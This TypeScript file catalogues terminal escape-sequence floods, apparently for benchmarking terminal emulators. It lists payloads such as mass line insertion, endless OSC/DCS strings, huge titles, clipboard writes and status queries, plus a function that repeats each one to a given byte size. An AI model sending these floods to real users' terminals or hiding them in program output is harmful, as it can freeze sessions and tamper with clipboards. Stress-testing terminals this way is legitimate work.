/** Program output made to cost the terminal far more than it cost the program: every kind that is known. */

export interface Attack {
	readonly name: string;
	/** Sent once. */
	readonly before?: string;
	/** Sent again and again. */
	readonly unit: string;
}

export const ATTACKS: readonly Attack[] = [
	{ name: "insert lines", unit: "\x1b[999L" },
	{ name: "delete lines", unit: "\x1b[999M" },
	{ name: "scroll up", unit: "\x1b[999S" },
	{ name: "scroll down", unit: "\x1b[999T" },
	{ name: "insert all lines but one", unit: "\x1b[H\x1b[499L" },
	{ name: "insert 23 lines", unit: "\x1b[H\x1b[23L" },
	{ name: "insert and print", unit: "\x1b[H\x1b[999Lx" },
	{ name: "insert one line", unit: "\x1b[L" },
	{ name: "scroll in colours", unit: "\x1b[41m\x1b[999S\x1b[42m\x1b[999S" },
	{ name: "insert lines, scroll a region", before: "\x1b[2r", unit: "\x1b[2H\x1b[999L\x1b[999H\n" },
	{ name: "reverse index", unit: "\x1bM" },
	{ name: "line feeds in a region", before: "\x1b[2r\x1b[999H", unit: "\n" },
	{ name: "repeat", unit: "x\x1b[999b" },
	{ name: "repeat in insert mode", before: "\x1b[4h", unit: "\x1b[Hx\x1b[999b" },
	{ name: "insert mode", before: "\x1b[4h", unit: "\x1b[Hx" },
	{ name: "insert characters", unit: "\x1b[999@" },
	{ name: "insert one character", unit: "\x1b[@" },
	{ name: "delete characters", unit: "\x1b[P" },
	{ name: "erase characters", unit: "\x1b[999X" },
	{ name: "tabs", before: "\x1b[3g", unit: "\r\t" },
	{ name: "many tabs", before: "\x1b[3g", unit: "\r\x1b[999I" },
	{ name: "many tabs back", before: "\x1b[3g", unit: "\x1b[999G\x1b[999Z" },
	{ name: "set tabs", unit: "\x1bHx" },
	{ name: "cursor moves", unit: "\x1b[999;999H\x1b[999A" },
	{ name: "erase screen", unit: "\x1b[2J" },
	{ name: "erase below", unit: "\x1b[J" },
	{ name: "erase unprotected", unit: "\x1b[?2J" },
	{ name: "erase line", unit: "\x1b[2K" },
	{ name: "alignment test", unit: "\x1b#8" },
	{ name: "reset", unit: "\x1bc" },
	{ name: "soft reset", unit: "\x1b[!p" },
	{ name: "alternate screen", unit: "\x1b[?47h\x1b[?47l" },
	{ name: "alternate screen, cleared", unit: "\x1b[?1049h\x1b[?1049l" },
	{ name: "scroll left", unit: "\x1b[ @" },
	{ name: "scroll right", unit: "\x1b[ A" },
	{ name: "insert column", unit: "\x1b['}" },
	{ name: "delete column", unit: "\x1b['~" },
	{ name: "many parameters", unit: `\x1b[${"1;".repeat(40)}m` },
	{ name: "colours", unit: "\x1b[38;2;1;2;3m" },
	{ name: "underline styles", unit: "\x1b[4:3m" },
	{ name: "titles", unit: "\x1b]0;a\x07" },
	{ name: "long titles", unit: `\x1b]0;${"t".repeat(15000)}\x07` },
	{ name: "clipboard", unit: `\x1b]52;c;${"QUJD".repeat(4000)}\x07` },
	{ name: "palette", unit: `\x1b]4;${"1;?;".repeat(4000)}\x07` },
	{ name: "links", unit: "\x1b]8;;http://a/\x07x\x1b]8;;\x07" },
	{ name: "attributes asked", unit: "\x1b[c" },
	{ name: "cursor asked", unit: "\x1b[6n" },
	{ name: "mode asked", unit: "\x1b[?2147483647$p" },
	{ name: "settings asked", unit: "\x1bP$qm\x1b\\" },
	{ name: "endless title", before: "\x1b]0;", unit: "t".repeat(64) },
	{ name: "endless sixel", before: "\x1bPq", unit: "#0~~@@vv@@~~@@~~$" },
	{ name: "endless setting", before: "\x1bP$q", unit: "m".repeat(64) },
	{ name: "endless APC", before: "\x1b_", unit: "G".repeat(64) },
	{ name: "endless parameters", before: "\x1b[", unit: "1;2:3;99999" },
	{ name: "endless intermediates", before: "\x1b[", unit: "!\"#$%&'()*+,-./" },
	{ name: "combining marks", unit: "\u0301" },
	{ name: "marks after sequences", unit: "\x1b[m\u0301" },
	{ name: "wide at the margin", before: "\x1b[?7l\x1b[999C", unit: "\u6f22" },
	{ name: "save and restore", unit: "\x1b7\x1b8" },
	{ name: "bells", unit: "\x07" },
	{ name: "region", unit: "\x1b[1;2r\x1b[r" },
	{ name: "plain text", unit: "The quick brown fox jumps over the lazy dog.\r\n" },
];

/** `size` bytes of the attack, to the nearest unit. */
export function flood({ before = "", unit }: Attack, size: number): Buffer {
	return Buffer.from(before + unit.repeat(Math.ceil(size / Buffer.byteLength(unit))));
}
